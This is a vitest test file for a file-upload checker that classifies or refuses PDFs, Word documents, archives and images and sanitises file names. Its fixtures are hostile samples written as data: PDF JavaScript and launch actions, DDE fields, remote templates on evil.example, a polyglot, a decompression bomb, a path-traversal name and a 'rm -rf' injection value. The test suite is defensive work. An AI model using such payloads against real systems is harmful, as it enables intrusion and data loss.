import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import {
  bitmap,
  compound,
  docx,
  packedObjects,
  pdf,
  pdfStream,
  WORD_NAMESPACES,
  zip,
} from "@/tests/support/sample-files";
import { sharp } from "../pictures/readers";
import { FILE_BYTES, takeFile } from "./index";

async function* inPieces(bytes: Buffer, length = 1000): AsyncGenerator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += length) yield bytes.subarray(at, at + length);
}

/** The file's kind, or why it is refused. */
async function told(bytes: Buffer, name = "file.bin"): Promise<string> {
  const taken = await takeFile(name, inPieces(bytes));
  if ("fault" in taken) return taken.fault;
  await taken.discard();
  return taken.type;
}

async function kept(bytes: Buffer, name: string): Promise<{ name: string; type: string; bytes: Buffer }> {
  const taken = await takeFile(name, inPieces(bytes));
  if ("fault" in taken) throw new Error(taken.fault);
  const pieces: Uint8Array[] = [];
  for await (const piece of taken.read()) pieces.push(piece);
  await taken.discard();
  return { name: taken.name, type: taken.type, bytes: Buffer.concat(pieces) };
}

const plain = (width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 30, b: 40 } } });
const WORD = [{ name: "WordDocument" }, { name: "1Table" }];
const DOC = "application/msword";
const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="a" TargetMode='External' Type="http://x/relationships/${type}" Target="${target}"/></Relationships>`;
const packed = (type: string) => packedObjects("5 0 << /JS (x) >>").replace("/Type /ObjStm", type);
const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const withBody = (body: string) =>
  docx([{ name: "word/header1.xml", text: `<w:hdr ${WORD_NAMESPACES}><w:p>${body}</w:p></w:hdr>` }]);
const filler = Buffer.from("many hands sew a quilt ".repeat(7100));

describe("a document", () => {
  it.each<[string, Buffer, string]>([
    ["a PDF", pdf(), "application/pdf"],
    ["a PDF with a long stream", pdf({ objects: pdfStream("", filler) }), "application/pdf"],
    [
      "a PDF with packed objects",
      pdf({ objects: packedObjects("5 0 << /Type /Page >>") }),
      "application/pdf",
    ],
    [
      "a PDF whose pages speak of programs",
      pdf({ objects: pdfStream("/Filter /FlateDecode", deflateSync(Buffer.from("(/JavaScript and /JS )"))) }),
      "application/pdf",
    ],
    ["an encrypted PDF", pdf({ trailer: "/Encrypt 8 0 R " }), "encrypted"],
    [
      "a PDF with files in it",
      pdf({ objects: "7 0 obj << /Type /Filespec /EF << /F 6 0 R >> >>" }),
      "embedded",
    ],
    [
      "a PDF with a list of files",
      pdf({ objects: "7 0 obj << /Names << /EmbeddedFiles 6 0 R >> >>" }),
      "embedded",
    ],
    [
      "a PDF with a program",
      pdf({ objects: "7 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >>" }),
      "script",
    ],
    ["a PDF with a program, spelled otherwise", pdf({ objects: "7 0 obj << /S /Java#53cript >>" }), "script"],
    ["a PDF with a short name in numbers", pdf({ objects: "7 0 obj << /#4a#53 (x) >>" }), "script"],
    ["a PDF that starts a program", pdf({ objects: "7 0 obj << /S /Launch /F (calc) >>" }), "script"],
    ["a PDF with a packed program", pdf({ objects: packedObjects("5 0 << /JS (x) >>") }), "script"],
    [
      "a PDF with a program behind a stream",
      pdf({ objects: pdfStream("", Buffer.from("8 0 obj << /S /JavaScript >>")) }),
      "script",
    ],
    [
      "a PDF that packs its objects in a way that nobody uses",
      pdf({ objects: pdfStream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", filler) }),
      "broken",
    ],
    ["half a PDF", pdf({ objects: pdfStream("", filler) }).subarray(0, 5000), "broken"],
    [
      "a PDF with an archive behind it",
      Buffer.concat([pdf(), zip([{ name: "a.exe", text: "MZ" }])]),
      "embedded",
    ],
    [
      "an archive within a PDF",
      pdf({ objects: zip([{ name: "a.exe", text: "MZ" }]).toString("latin1") }),
      "embedded",
    ],
    [
      "a PDF with a link to a page",
      pdf({
        objects: "7 0 obj << /Subtype /Link /A << /S /URI /URI (https://lakewood.example/) >> >> endobj\n",
      }),
      "application/pdf",
    ],
    ...(
      [
        ["packed as a type with a comment", packed("/Type%x\n/ObjStm"), "script"],
        ["packed as a type elsewhere", `8 0 obj\n/ObjStm\nendobj\n${packed("/Type 8 0 R")}`, "broken"],
        ["packed after a CR alone", packed("/Type /ObjStm").replace("stream\n", "stream\r"), "script"],
        ["packed without a type", packed(""), "broken"],
        ["packed in a comment", `% ${packed("/Type /ObjStm").replaceAll("\n", " ")}`, "broken"],
        [
          "replaced by a later one",
          "7 0 obj << /S /GoToR /F (x.pdf) >> endobj\n7 0 obj << >> endobj\n",
          "external",
        ],
        ["that sends a form", "7 0 obj << /S /SubmitForm >> endobj\n", "external"],
        ["that plays", "7 0 obj << /S /Rendition >> endobj\n", "script"],
        ["on another machine", "7 0 obj << /F (\\\\\\\\evil\\\\x.pdf) >> endobj\n", "external"],
        ["from an address", "7 0 obj << /FS /URL /F (x) >> endobj\n", "external"],
        [
          "in a stream elsewhere",
          pdfStream("/F (x.bin) /FFilter /FlateDecode", Buffer.from("x")),
          "external",
        ],
        [
          "that opens a page",
          "7 0 obj << /OpenAction << /S /URI /URI (https://x.example) >> >> endobj\n",
          "external",
        ],
        [
          "that opens a page later",
          "7 0 obj << /AA << /O 8 0 R >> >> endobj\n8 0 obj << /S /URI >> endobj\n",
          "external",
        ],
        [
          "that is large",
          pdfStream("/Filter /FlateDecode", deflateSync(Buffer.alloc(300_000_000))),
          "broken",
        ],
      ] as const
    ).map(
      ([name, objects, fault]) =>
        [`a PDF with something ${name}`, pdf({ objects }), fault] as [string, Buffer, string],
    ),
    ...(
      [
        ["DDE field", run("DD") + run("EAUTO c:\\x"), "external"],
        ["picture elsewhere", run('INCLUDEPICTURE "http://evil.example/x.png"'), "external"],
        ["field computed by another", mark("begin") + run("QUOTE 68") + mark("end"), "external"],
        ["link to a machine", run('HYPERLINK "\\\\evil\\x"'), "external"],
        ["link to a page", run('HYPERLINK "https://lakewood.example/"'), DOCX],
        ["number of a page", run("PAGE"), DOCX],
      ] as const
    ).map(
      ([name, text, fault]) =>
        [`a document with a ${name}`, withBody(`${mark("begin")}${text}${mark("end")}`), fault] as [
          string,
          Buffer,
          string,
        ],
    ),
    ["a document with a simple DDE field", withBody('<w:fldSimple w:instr="DDE x"/>'), "external"],
    ["a document with another in it", withBody('<w:altChunk r:id="a"/>'), "embedded"],
    [
      "a document whose template is behind a sign",
      docx([
        {
          name: "word/_rels/settings.xml.rels",
          text: `<Relationships><Relationship Id=">" Type="http://x/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"/></Relationships>`,
        },
      ]),
      "external",
    ],
    [
      "a document with a list of 8 MB",
      docx([{ name: "word/_rels/a.xml.rels", text: "<Relationship ".repeat(600_000) }]),
      "broken",
    ],
    ["a document of Word", docx(), DOCX],
    ["a document with macros", docx([{ name: "word/vbaProject.bin", text: "x" }]), "macros"],
    ["a document that says it has macros", docx([], { types: "<Types macroEnabled=''/>" }), "macros"],
    ["a document with a sheet in it", docx([{ name: "word/embeddings/sheet1.xlsx", text: "x" }]), "embedded"],
    ["a document with a control", docx([{ name: "word/activeX/activeX1.xml", text: "x" }]), "embedded"],
    [
      "a document with a template elsewhere",
      docx([
        {
          name: "word/_rels/settings.xml.rels",
          text: relation("attachedTemplate", "https://evil.example/t.dotm"),
        },
      ]),
      "external",
    ],
    [
      "a document with a picture elsewhere",
      docx([
        { name: "word/_rels/header1.xml.rels", text: relation("image", "https://evil.example/pixel.png") },
      ]),
      "external",
    ],
    [
      "a document whose relations are spelled in numbers",
      docx([{ name: "word/_rels/a.xml.rels", text: relation("attached&#84;emplate", "x") }]),
      "broken",
    ],
    ["an encrypted document", docx([{ name: "word/a.xml", text: "x", isEncrypted: true }]), "encrypted"],
    [
      "a document that unfolds beyond measure",
      docx([{ name: "word/b.xml", text: "x", claims: 4e9 }]),
      "broken",
    ],
    ["half a document", docx().subarray(0, 400), "broken"],
    ["an archive", zip([{ name: "readme.txt", text: "hello" }]), "format"],
    [
      "a spreadsheet",
      zip([
        { name: "[Content_Types].xml", text: "x" },
        { name: "xl/workbook.xml", text: "x" },
      ]),
      "format",
    ],
    ["a document of before 2007", compound(WORD), DOC],
    ["one that is encrypted", compound(WORD, { wordFlags: 0x0100 }), "encrypted"],
    ["one that hides an encrypted package", compound([{ name: "EncryptedPackage" }]), "encrypted"],
    ["one with macros", compound([...WORD, { name: "Macros", kind: 1 }]), "macros"],
    ["one with a project", compound([...WORD, { name: "_VBA_PROJECT" }]), "macros"],
    ["one with objects", compound([...WORD, { name: "ObjectPool", kind: 1, child: 3 }]), "embedded"],
    ["one with an empty place for objects", compound([...WORD, { name: "ObjectPool", kind: 1 }]), DOC],
    ["an old spreadsheet", compound([{ name: "Workbook" }]), "format"],
    ["one that only looks like it", compound(WORD, { word: 0x1234 }), "broken"],
    ["the head of one", compound(WORD).subarray(0, 600), "broken"],
  ])("%s", async (_, bytes, result) => {
    expect(await told(bytes, "letter.pdf")).toBe(result);
  });

  it.each([
    "MZ\x90\0",
    "<!doctype html><script>1</script>",
    "%!PS-Adobe",
    "Rar!\x1a\x07",
    "7z\xbc\xaf'\x1c",
    "",
  ])("is nothing that begins with %j", async (text) =>
    expect(await told(Buffer.from(text, "latin1"), "a.pdf")).toBe("format"),
  );

  it("may have one byte less than 6,291,456", async () => {
    const padded = (size: number) => {
      const length = size - pdf({ objects: pdfStream("", Buffer.alloc(1_000_000)) }).length + 1_000_000;
      return pdf({ objects: pdfStream("", Buffer.alloc(length, 32)) });
    };
    const largest = padded(FILE_BYTES - 1);
    expect(largest.length).toBe(FILE_BYTES - 1);
    expect(await told(largest)).toBe("application/pdf");
    expect(await told(padded(FILE_BYTES))).toBe("size");
  });
});

describe("a picture", () => {
  it.each<[string, () => Promise<Buffer>, string, string]>([
    ["png", () => plain().png().toBuffer(), "image/png", "a.png"],
    ["jpeg", () => plain().jpeg().toBuffer(), "image/jpeg", "a.jpg"],
    ["gif", () => plain().gif().toBuffer(), "image/gif", "a.gif"],
    ["tiff", () => plain().tiff().toBuffer(), "image/tiff", "a.tiff"],
    ["bmp", async () => bitmap(7, 5), "image/png", "a.png"],
  ])("%s is written anew", async (_, make, type, name) => {
    const secret = "Sam Whitfield lives in Elm Street <script>alert(1)</script>";
    const file = await kept(Buffer.concat([await make(), Buffer.from(secret)]), "a.docx");
    expect([file.type, file.name]).toEqual([type, name]);
    expect(file.bytes.includes("Whitfield")).toBe(false);
    expect(await told(file.bytes)).toBe(type);
  });

  it("of several pages keeps all of them", async () => {
    const pages = await Promise.all([plain().png().toBuffer(), plain().negate().png().toBuffer()]);
    for (const format of ["tiff", "gif"] as const) {
      const made = await sharp(pages, { join: { animated: true } })
        .toFormat(format)
        .toBuffer();
      const again = (await kept(made, "scan.tif")).bytes;
      expect(again.length).toBeGreaterThan(100);
      // These readers take only paths, so count in the bytes.
      const count =
        format === "gif" ? again.toString("latin1").split("\x21\xf9\x04").length - 1 : tiffPages(again);
      expect(count).toBe(2);
    }
  });

  it("loses where it was taken", async () => {
    const shot = await plain()
      .withExif({ IFD0: { Artist: "Sam Whitfield" } })
      .jpeg()
      .toBuffer();
    expect(shot.includes("Sam Whitfield")).toBe(true);
    expect((await kept(shot, "shot.jpeg")).bytes.includes("Sam Whitfield")).toBe(false);
  });

  it("shows the same as the bitmap did", async () => {
    const { bytes } = await kept(bitmap(3, 2, [10, 20, 30]), "a.bmp");
    const { data, info } = await sharp(bytes).raw().toBuffer({ resolveWithObject: true });
    expect([info.width, info.height, ...data.subarray(0, 3)]).toEqual([3, 2, 10, 20, 30]);
  });

  it("is refused when it is cut, or a program with a picture's beginning", async () => {
    const noise = Buffer.from(Array.from({ length: 90_000 }, (_, at) => (at * 7919) % 251));
    const whole = await sharp(noise, { raw: { width: 200, height: 150, channels: 3 } })
      .png()
      .toBuffer();
    expect(await told(whole.subarray(0, whole.length / 2))).toBe("broken");
    expect(await told(Buffer.from("GIF89a/*<svg/onload=1>*/=1;alert(1)//"))).toBe("broken");
    expect(await told(Buffer.from("BM of course not"))).toBe("broken");
    expect(await told(bitmap(50, 50).subarray(0, 3000))).toBe("broken");
  });

  it("is refused before it unfolds beyond measure", async () => {
    const bomb = await plain(10_000, 10_000).png({ compressionLevel: 9 }).toBuffer();
    const before = process.memoryUsage().rss;
    expect(await told(bomb)).toBe("pixels");
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 2 ** 20);
  });
});

function tiffPages(bytes: Buffer): number {
  let count = 0;
  for (let at = bytes.readUInt32LE(4); at !== 0; count++) {
    at = bytes.readUInt32LE(at + 2 + bytes.readUInt16LE(at) * 12);
  }
  return count;
}

it.each([
  ["../../etc/passwd", "passwd.pdf"],
  ["C:\\Users\\Theo\\Vertrag.pdf", "Vertrag.pdf"],
  ["a\u202efdp.exe", "a fdp.pdf"],
  ["photo.jpg.exe", "photo.jpg.pdf"],
  ["東京 の 手紙.PDF", "東京 の 手紙.pdf"],
  ["", "file.pdf"],
  ['a"; rm -rf.pdf', "a rm -rf.pdf"],
])("the name %j becomes %j", async (given, harmless) => {
  expect((await kept(pdf(), given)).name).toBe(harmless);
});
